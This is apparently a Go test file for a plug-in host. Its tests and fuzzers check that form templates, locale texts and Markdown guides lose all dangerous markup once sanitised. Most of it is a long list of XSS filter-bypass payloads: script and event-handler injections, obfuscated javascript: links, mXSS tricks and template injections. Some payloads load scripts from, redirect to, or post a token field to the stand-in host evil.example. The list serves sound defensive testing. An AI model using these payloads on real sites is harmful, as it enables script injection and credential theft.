package plugin_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/tocsin-net/tocsin/host/plugin"
)

// The elements that a form may have: what plug-ins may write, and what the host's helpers add.
var formElements = strings.Fields(`p br hr div section span blockquote pre h1 h2 h3 h4 h5 h6 b strong i em u s del ins small sub sup mark code kbd samp
	var q abbr ul ol li dl dt dd table caption thead tbody tr th td details summary a label input select option textarea html head body`)

var formAttributes = strings.Fields(`title start open lang dir href rel target class id for name type value required checked selected rows
	placeholder autocomplete spellcheck autocapitalize inputmode min max step role aria-describedby aria-invalid`)

// faults parses a page as a browser does and lists what must not be in it.
func faults(page string) []string {
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var list []string
	bad := func(format string, args ...any) { list = append(list, fmt.Sprintf(format, args...)) }
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(formElements, n.Data) || n.Namespace != "" {
			bad("<%s>", n.Data)
		}
		own := n.Data == "input" || n.Data == "select" || n.Data == "textarea"
		for _, a := range n.Attr {
			switch {
			case !slices.Contains(formAttributes, a.Key):
				bad("%s of <%s>", a.Key, n.Data)
			case a.Key == "href" && strings.HasPrefix(a.Val, "#endpoint-"):
			case a.Key == "href":
				u, err := url.Parse(a.Val)
				if err != nil || u.Scheme != "http" && u.Scheme != "https" || u.Host == "" {
					bad("a link to %q", a.Val)
				}
			case own && a.Key == "name" && !strings.HasPrefix(a.Val, "endpoint."):
				bad("an input that is not the host's: %q", a.Val)
			}
		}
	}
	return list
}

// vectors are what is known to get past filters, each written anew for this test; the forms here would be dangerous if any of it
// survived as markup.
var hostileForms = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)`,
	`<<script>alert(1)//<</script>`, `<img src=x onerror=alert(1)>`, `<img src="https://evil.example/pixel.gif">`, `<image src=x onerror=alert(1)>`,
	`<p onclick="alert(1)">x</p>`, `<p onmouseover=alert(1)//>x`, `<p/onclick=alert(1)>x`, "<p \x0conclick=alert(1)>x", `<p ONCLICK=alert(1)>`, `<p "=" onclick=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A&#x61vascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`, `<a href="&#1;javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/settings?delete=1">x</a>`, `<a href="?x">x</a>`, `<a href="#endpoint-url" id="endpoint-url">x</a>`, `<a href="https://user:pw@evil.example">x</a>`,
	`<a href="https://evil.example/" target="_self" rel="opener">x</a>`, `<a href="https:evil.example">x</a>`, `<a href='https://a.example/"onclick="alert(1)'>x</a>`, `<a href="blob:https://a.example/1">x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<style>*{position:fixed}</style>`, `<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`, `<div style="width:expression(alert(1))">x</div>`, `<div class="problems" id="endpoint-url">x</div>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<title>x</title>`,
	`<iframe src=https://evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=x></object>`, `<embed src=x>`, `<applet code=x>`, `<frameset><frame src=x></frameset>`,
	`<form action=https://evil.example><input name=endpoint.token></form>`, `</form><form action=https://evil.example>`, `<input name="endpoint.url" type=hidden value=x>`, `<input type=image src=x onerror=alert(1)>`,
	`<button formaction=javascript:alert(1)>x</button>`, `<select name=x><option>y</select>`, `<textarea name=x>`, `<label for=endpoint-url>x</label>`, `<isindex>`, `<keygen name=x>`, `<output name=x>`, `<fieldset form=x>`,
	`<video src=x onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<source src=x>`, `<body onload=alert(1)>`, `<html onclick=alert(1)>`, `<marquee onstart=alert(1)>`, `<dialog open>x</dialog>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><script>alert(1)</script>">`, `<plaintext><script>x`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
	`<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`, `<title><img title="</title><img src onerror=alert(1)>"></title>`, `<!--><script>alert(1)</script>-->`, `<!--[if IE]><script>x</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>x</script>`, `<!DOCTYPE html><script>x</script>`, `<p title="<script>alert(1)</script>">x</p>`, `<abbr title='"><script>alert(1)</script>'>x</abbr>`, `<abbr title="x" onclick=alert(1)>x</abbr>`, "<abbr title=`x`onclick=alert(1)`>x</abbr>",
	`<details open ontoggle=alert(1)>x</details>`, `<details/open/ontoggle=alert(1)>`, `<x-custom onclick=alert(1)>x</x-custom>`, `<p is="evil">x</p>`, `<slot name=x>`, `<p contenteditable accesskey=x autofocus onfocus=alert(1)>x</p>`, `<p tabindex=1 popover>x</p>`,
	`<table background="javascript:alert(1)"><td background=x>`, `<table><tr><td><script>x</script></table>`, `<ul><li><table><div><form><p>`, `</div></div></div></body></html><script>x</script>`, `<p><b><i><u></p></b></i></u>`, `<a href="https://a.example"><a href="https://b.example">`,
	"<p>\u202egnp.exe\u2066</p>", "<\u0073cript>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "\xff\xfe<script>x</script>", "<p\xa0onclick=alert(1)>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `<p lang="&quot; onclick=alert(1)">x</p>`, `<ol start="1 onclick=x">`, `<p dir="rtl" lang="it">x</p>`,
	// Templates.
	`<p title="{{field "url"}}">x</p>`, `<a href="{{field "url"}}">x</a>`, `<a href="https://a.example/{{field "url"}}">x</a>`, `<script>{{field "url"}}</script>`, `<script>var x = "{{t "hello"}}"</script>`, `<style>{{fields}}</style>`,
	`<{{t "script"}}>alert(1)</{{t "script"}}>`, `<p {{t "attr"}}>x</p>`, `<p {{t "attr"}}="x">`, `<a href="{{t "js"}}">x</a>`, `<a href={{t "js"}}>x</a>`, `<abbr title={{t "attr"}}>x</abbr>`, `<abbr title='{{t "break"}}'>x</abbr>`, `{{t "markup"}}`, `<!-- {{t "comment"}} -->`,
	`<p onclick="{{t "markup"}}">x</p>`, `<textarea>{{field "url"}}</textarea>`, `<a href="https://a.example">{{field "url"}}</a>`, `<p><b>{{field "url"}}`, `<table><tr>{{field "url"}}<td>{{field "mode"}}</table>`, `<pre>{{fields}}</pre>`, `<ul>{{field "url"}}</ul>`, `<summary>{{field "url"}}</summary>`,
	`{{group "<script>alert(1)</script>" "url"}}`, `{{group (t "markup") "url"}}`, `{{help}}`, `{{help}}{{help}}`, `{{field "url"}}{{field "url"}}`, `{{fields}}{{fields}}`, `{{field}}`, `{{field "nope"}}`, `{{field .}}`, `{{field 1}}`, `{{.}}`, `{{"<script>"}}`, `{{print "<script>"}}`, `{{html "x"}}`,
	`{{define "x"}}{{template "x"}}{{end}}{{template "x"}}`, `{{define "endpoint.html"}}{{template "endpoint.html"}}{{end}}`, `{{template "endpoint.html"}}`, `{{block "x" .}}{{template "x"}}{{end}}`, `{{range 9999999999}}x{{end}}`, `{{with 1}}x{{end}}`, `{{if t "hello"}}x{{end}}`, `{{$x := t "hello"}}{{$x}}`, `{{t "hello" | t}}`,
	`{{break}}`, `{{continue}}`, `{{`, `{{field "url"`, `{{end}}`, `{{t "big"}}{{t "big"}}`, `{{/* <script> */}}`, `{{field (t "hello")}}`, `{{group (field "url") "mode"}}`, `{{group (group "x" "url") "mode"}}`,
}

// hostileText is a package whose form, texts and guide are all bad.
func hostileText(form, help string) plugin.Parts {
	parts := withForm(form)
	if form == "" {
		parts.Templates = map[string][]byte{"endpoint.html": nil}
	}
	parts.Manifest = []byte(strings.Replace(goodManifest, `"Nothing to set up."`, fmt.Sprintf("%q", help), 1))
	parts.Locales = map[string][]byte{"en.toml": []byte(`hello = "x"
script = "script"
attr = "onclick=alert(1) x"
js = "javascript:alert(1)"
break = "' onclick='alert(1)"
markup = "<script>alert(1)</script><img src=x onerror=alert(1)>"
comment = "--><script>alert(1)</script>"
big = "x"
`)}
	return parts
}

func TestHostileForms(t *testing.T) {
	t.Parallel()
	dangerous := strings.Join(hostileForms, "\n")
	for _, text := range append([]string{
		strings.Repeat("<div>", 5000) + `{{fields}}`, strings.Repeat("<b><i><p>", 3000), strings.Repeat(`<a href="https://a.example">`, 500), strings.Repeat("<table><tr><td>", 2000),
		strings.Repeat(`{{t "big"}}`, 500), "<p title=\"" + strings.Repeat("a", 60_000), strings.Repeat("{{fields}}", 1000), strings.Repeat("<", 30_000), strings.Repeat("&", 30_000), strings.Repeat("<!--", 10_000),
		strings.Repeat("{{group \"x\" \"url\"}}", 1000), strings.Repeat("(", 60_000), "{{t " + strings.Repeat("(", 50_000), strings.Repeat("x", 70_000), dangerous[:min(len(dangerous), 60_000)],
	}, hostileForms...) {
		start := time.Now()
		guide := text
		if !strings.Contains(text, "{{field") {
			text += "</script>\n{{fields}}" // or it would be refused at once
		}
		parts := hostileText(text, guide)
		if strings.Contains(text, `"big"`) {
			parts.Locales["en.toml"] = []byte("big = \"" + strings.Repeat("x", 60_000) + "\"\n")
		}
		p, err := plugin.Parse("example.wasm", pack(t, parts))
		if err != nil { // help that TOML cannot hold
			p = parse(t, hostileText(text, "x"))
		}
		page, err := p.Form("endpoint", plugin.FormInput{Problems: p.LintParams("en", map[string]any{"<b>": 1, "mode": "<script>x</script>"}, nil)})
		if err == nil {
			for _, f := range faults(string(page)) {
				t.Errorf("%.80q: the form has %s\n%.2000s", text, f, page)
			}
		}
		for _, f := range faults(string(p.Guide("en"))) {
			t.Errorf("%.80q: the guide has %s\n%.2000s", text, f, p.Guide("en"))
		}
		if took := time.Since(start); took > time.Minute {
			t.Errorf("%.80q took %v", text, took)
		}
	}
}

// TestLintOfForms wants each mistake named, with its line.
func TestLintOfForms(t *testing.T) {
	t.Parallel()
	const all = "{{fields}}"
	for _, tc := range []struct{ form, want string }{
		{all, ""},
		{"x\n{{fild \"url\"}}" + all, `:2: there is no helper "fild"; did you mean {{field "NAME"}}?`},
		{"{{frobnicate}}" + all, `:1: there is no helper "frobnicate"; write {{field "NAME"}}, {{fields}}, {{group "TITLE" "NAME" ...}}, {{help}}, {{t "KEY"}}`},
		{"\n{{field \"ulr\"}}" + all, `:2: the endpoint has no parameter "ulr"; did you mean "url"?`},
		{"{{group \"G\" \"url\" \"nothing\"}}" + all, `:1: the endpoint has no parameter "nothing"; it has url, token`},
		{"{{field \"url\"}}\n{{group \"G\" \"url\"}}" + all, `:2: the parameter url is asked for twice`},
		{all + "\n" + all, ":2: {{fields}} stands twice"},
		{"{{field}}" + all, ":1: field has the wrong number of arguments"},
		{"{{group \"G\"}}" + all, ":1: group has the wrong number of arguments"},
		{"{{group \"\" \"url\"}}" + all, ":1: the group has no title"},
		{"{{field .x}}" + all, `:1: ".x" is not understood here; write text in quotes, as in {{field "NAME"}}`},
		{"{{t \"helo\"}}" + all, `:1: the text "helo" is not in locales/en.toml; did you mean "hello"?`},
		{"{{range 3}}x{{end}}" + all, ":1: a form has no conditions and no loops"},
		{"\n{{define \"x\"}}{{end}}" + all, `: a form is one piece; write the block "x" out where it belongs`},
		{"\n{{template \"x\"}}" + all, ":2: a form calls no other template"},
		{"{{.}}" + all, `:1: "." cannot stand in a form`},
		{"{{t \"hello\" | t}}" + all, "no variables and no pipelines"},
		{"\n<p>{{field \"url\"", `:2: `},
		{`{{field "url"}}`, `templates/endpoint.html: the parameter token is never asked for; write {{field "token"}} or {{fields}}`},
		{`{{field "url"}}{{field "token"}}`, "templates/endpoint.html: warning: the parameter port is never asked for"},
		{"\n<p title=\"{{field \"url\"}}\">x</p>" + all, `:2: {{field "NAME"}} stands in an attribute or in an element that is removed`},
		{"<script>{{fields}}</script>", `:1: {{fields}} stands in an attribute or in an element that is removed`},
		{"\n<script>x</script>" + all, `:2: warning: the element <script> is not allowed in forms; it is removed`},
		{"\n\n<p onclick='x' class=y>" + all, `:3: warning: the attribute onclick of <p> is not allowed in forms; it is removed`},
		{"<a href=\"javascript:x\">y</a>" + all, `:1: warning: the link to "javascript:x" is not allowed in forms; links begin with https:// or http://; it is removed`},
		{"<ol start=x>" + all, `:1: warning: the attribute start of <ol> cannot be "x"; it is removed`},
		{"<p {{t \"hello\"}}", "endpoint.html"},
		{strings.Repeat(`{{t "hello"}}`+strings.Repeat("&lt;", 10), 3000) + all, " bytes; it may have 65536 at most"},
	} {
		parts := withForm(tc.form)
		delete(parts.Locales, "it.toml")
		got := check(t, parts)
		if tc.want == "" && got != "" || !strings.Contains(got, tc.want) {
			t.Errorf("%.100q:\ngot  %s\nwant %s", tc.form, got, tc.want)
		}
	}
	parts := hostileText(strings.Repeat(`{{t "big"}}`, 50)+all, "x")
	parts.Locales["en.toml"] = []byte("big = \"" + strings.Repeat("x", 60_000) + "\"\n")
	got := check(t, parts)
	if !strings.Contains(got, "templates/endpoint.html: the form is larger than 1048576 bytes") {
		t.Error(got)
	}
	// A form with a mistake is not shown.
	p := parse(t, withForm("{{field \"ulr\"}}"))
	if _, err := p.Form("endpoint", plugin.FormInput{}); err == nil {
		t.Error("a broken form was shown")
	}
}

func FuzzForm(f *testing.F) {
	for _, text := range hostileForms {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if !strings.Contains(text, "{{field") {
			text += "{{fields}}"
		}
		parts := hostileText(text, "x")
		b, err := plugin.Pack(tiny, parts)
		if err != nil {
			return
		}
		p, err := plugin.Parse("x.wasm", b)
		if err != nil {
			return
		}
		page, err := p.Form("endpoint", plugin.FormInput{Values: map[string]any{"text": text}})
		if err != nil {
			return
		}
		if bad := faults(string(page)); len(bad) > 0 {
			t.Errorf("%q\n%s", bad, page)
		}
		if !strings.Contains(string(page), `name="endpoint.token"`) && len(p.Check()) == 0 {
			t.Errorf("the form lost its fields without a word\n%s", page)
		}
	})
}

func FuzzGuide(f *testing.F) {
	f.Add("# a\n\n<script>x</script>\n\n[x](javascript:alert(1)) <https://a.example> ![x](https://a.example/x.png)")
	f.Add("[x](java&#115;cript:alert(1))\n\n[y]: data:text/html,x\n\n[y] `a` *b* > c\n> > d\n- e\n  1. f\n<a href=\"&#106;avascript:x\">")
	f.Fuzz(func(t *testing.T, text string) {
		guide := plugin.Markdown(text)
		if bad := faults(guide); len(bad) > 0 {
			t.Errorf("%q\n%s", bad, guide)
		}
	})
}

// FuzzSanitise holds that the result is harmless, that a second round changes nothing that matters, and that the hole is never in
// a tag.
func FuzzSanitise(f *testing.F) {
	for _, text := range hostileForms {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		const hole = "HOLE7f3kq"
		clean := plugin.Sanitise(text+hole+text, hole)
		if bad := faults(clean); len(bad) > 0 {
			t.Fatalf("%q\n%s", bad, clean)
		}
		z := html.NewTokenizer(strings.NewReader(clean))
		for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
			if kind != html.TextToken && strings.Contains(string(z.Raw()), hole) {
				t.Fatalf("the hole is in a tag\n%s", clean)
			}
		}
		again := plugin.Sanitise(clean, hole)
		if bad := faults(again); len(bad) > 0 {
			t.Fatalf("again: %q\n%s", bad, again)
		}
		// What is put in the hole must not change how the rest is read.
		filled := strings.ReplaceAll(clean, hole, `<div class="field"><input name="endpoint.x"></div>`)
		if bad := faults(filled); len(bad) > 0 {
			t.Fatalf("filled: %q\n%s", bad, filled)
		}
	})
}
